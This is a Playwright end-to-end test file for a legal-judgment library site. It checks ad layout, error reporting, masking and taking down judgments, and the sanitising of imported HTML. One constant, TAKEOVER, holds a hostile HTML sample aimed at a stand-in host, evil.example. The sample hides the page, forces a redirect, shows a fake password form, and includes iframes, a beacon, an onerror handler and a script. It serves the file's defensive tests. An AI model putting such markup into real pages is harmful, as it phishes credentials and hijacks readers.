import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import Database from 'better-sqlite3';
import { FULL } from './support/levels.js';
import { expect, test } from './support/own-site.js';
import type { Place } from './support/people.js';
import { watchConsole, watchLayoutShift } from './support/screens.js';
import { importInto } from './support/test-server.js';
import { expectToast } from './support/toasts.js';

/** Runs the administrator's command next to the running server. */
async function admin(dataDir: string, ...args: readonly string[]): Promise<string> {
  const program = fileURLToPath(new URL('../../packages/server/dist/admin-cli.js', import.meta.url));
  const child = spawn(process.execPath, [program, ...args], { env: { ...process.env, DATA_DIR: dataDir } });
  let output = '';
  child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
  const [code] = (await once(child, 'close')) as [number | null];
  if (code !== 0) throw new Error(`documents ended with ${code}: ${output}`);
  return output;
}

interface Judgment {
  readonly id: string;
  readonly house_citation: string;
  readonly appellant: string;
}

/** Judgments of the sample with a cut text, as the library has them. */
function judgments(dataDir: string): readonly Judgment[] {
  const database = new Database(join(dataDir, 'headnote.db'), { readonly: true });
  try {
    return database
      .prepare(
        `select id, house_citation, appellant from documents where kind = 'case' and length(preview_html) > 2000 order by id limit 5`,
      )
      .all() as Judgment[];
  } finally {
    database.close();
  }
}

function judgment({ dataDir }: Place, index: number): Judgment {
  const found = judgments(dataDir).at(index);
  if (found === undefined) throw new Error(`the sample has no judgment ${index} with a cut text`);
  return found;
}

const address = ({ url }: Place, { house_citation: citation }: { house_citation: string }) =>
  `${url}/case/${citation.toLowerCase().replaceAll(' ', '-')}`;

const rooms = (page: Page) =>
  page.locator('.hn-ad__room').evaluateAll((all) => all.map((one) => (one as HTMLElement).offsetHeight));

test('N5: advertisements keep their place from the start, come after 900 ms, and ask no other server', async ({
  page,
  site,
}) => {
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(site.url)) foreign.push(request.url());
  });
  const shift = await watchLayoutShift(page);
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto(address(site, judgment(site, 0)));
  expect(await rooms(page)).toEqual([600, 90, 600]);
  await expect(page.getByRole('link', { name: 'Widgets for your site' }).first()).toBeVisible();
  await expect(page.locator('.site-house')).toHaveCount(3);
  expect(await rooms(page)).toEqual([600, 90, 600]);
  expect(await shift()).toBe(0);
  expect(foreign).toEqual([]);
});

test('an error is reported with its paragraph, and the form keeps what was typed when it is refused', async ({
  page,
  site,
}) => {
  const { problems } = watchConsole(page);
  const document = judgment(site, 0);
  const dialog = page.getByRole('dialog', { name: 'Report an error' });
  // Until its script runs, the link opens the contact page.
  await expect(async () => {
    await page.goto(address(site, document), { waitUntil: 'networkidle' });
    await page.getByRole('link', { name: 'Report an error' }).click();
    await expect(dialog).toBeVisible({ timeout: 2000 });
  }).toPass();
  await dialog.getByRole('button', { name: 'Send report' }).click();
  await expect(dialog.getByText('Report must not be blank!')).toBeVisible();
  await dialog.getByLabel('Paragraph').fill('2');
  await dialog.getByLabel('What is wrong').fill('The year is wrong.');
  await dialog.getByRole('button', { name: 'Send report' }).click();
  await expectToast(page, { title: 'Success', type: 'SUCCESS', text: /Your report was received\. Its number is E-/ });
  await expect(dialog).toBeHidden();
  const database = new Database(join(site.dataDir, 'headnote.db'), { readonly: true });
  const stored = database
    .prepare(`select document_id, paragraph, body from contact_messages where document_id = ?`)
    .all(document.id);
  database.close();
  expect(stored).toEqual([{ document_id: document.id, paragraph: '2', body: 'The year is wrong.' }]);
  expect(problems).toEqual([]);
});

test(
  'a masked judgment says so, and one that was taken down answers 410 with the reason',
  FULL,
  async ({ page, site }) => {
    const masked = judgment(site, 1);
    const gone = judgment(site, 2);
    const name = masked.appellant.split(/\s+/).slice(0, 2).join(' ');
    await admin(site.dataDir, 'documents', 'mask', masked.id, '--person', `${name}=X`, '--reason', 'Order of a court');
    await admin(site.dataDir, 'documents', 'take-down', gone.house_citation, '--reason', 'Order of a court');
    const shown = await page.goto(address(site, masked));
    expect(shown?.status()).toBe(200);
    await expect(page.getByText('Names in this document are replaced')).toBeVisible();
    expect((await page.content()).toLowerCase()).not.toContain(name.toLowerCase());
    const missing = await page.goto(address(site, gone));
    expect(missing?.status()).toBe(410);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('This document was taken down');
    await expect(page.getByText('Order of a court')).toBeVisible();
  },
);

test('E6: the text of a document has a stacking context of its own, no style and no form', async ({ page, site }) => {
  await page.goto(address(site, judgment(site, 0)));
  const text = page.locator('.hn-document');
  expect(await text.evaluate((element) => getComputedStyle(element).isolation)).toBe('isolate');
  await expect(text.locator('[style], style, form, iframe, base, meta, link, input, button')).toHaveCount(0);
});

/** Text that tries to cover the page, ask for a password and lead the reader away. */
const TAKEOVER = `<style>body{display:none}</style><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/beacon)">Your session ended.</div>
<form action="https://evil.example/"><input name="password"><button>Sign in here</button></form>
<iframe src="https://evil.example/"></iframe><img src="https://evil.example/i.png" onerror="document.title='taken'">
<svg><foreignObject><form action="https://evil.example/"></form></foreignObject></svg>
<script>document.title = 'taken'</script><p>The appeal is dismissed.</p>`;

test(
  'E6: an imported judgment that tries to take over the page shows its words and does nothing',
  FULL,
  async ({ page, site }) => {
    const file = join(site.dataDir, 'takeover.jsonl');
    await writeFile(file, JSON.stringify({ id: 'takeover', title: 'Evil v. Example', html: TAKEOVER }));
    await importInto(site.dataDir, 'documents', [file]);
    const database = new Database(join(site.dataDir, 'headnote.db'), { readonly: true });
    const imported = database.prepare(`select house_citation from documents where appellant = 'Evil'`).get();
    database.close();
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(site.url)) foreign.push(request.url());
    });
    await page.goto(address(site, imported as Judgment));
    const text = page.locator('.hn-document');
    await expect(text).toContainText('The appeal is dismissed.');
    await expect(page.locator('.site-house')).toHaveCount(3);
    await expect(text.locator('[style], style, form, iframe, base, meta, svg, img, script, input, button')).toHaveCount(
      0,
    );
    await expect(page).toHaveTitle(/^Evil Versus Example/);
    expect(page.url()).toBe(address(site, imported as Judgment));
    expect(foreign).toEqual([]);
  },
);

test.describe('without script', () => {
  test.use({ javaScriptEnabled: false });
  test('data coverage shows every court, and a table of the years', FULL, async ({ page, site }) => {
    await page.goto(`${site.url}/datacoverage`);
    const { outdata } = (await (await page.request.get(`${site.url}/api/documents/coverage`)).json()) as {
      outdata: { courts: readonly unknown[] };
    };
    await expect(page.locator('.site-courts__strip:visible')).toHaveCount(outdata.courts.length);
    await page.getByText('All years as a table').click();
    await expect(page.getByRole('columnheader', { name: 'Year', exact: true })).toBeVisible();
  });
});
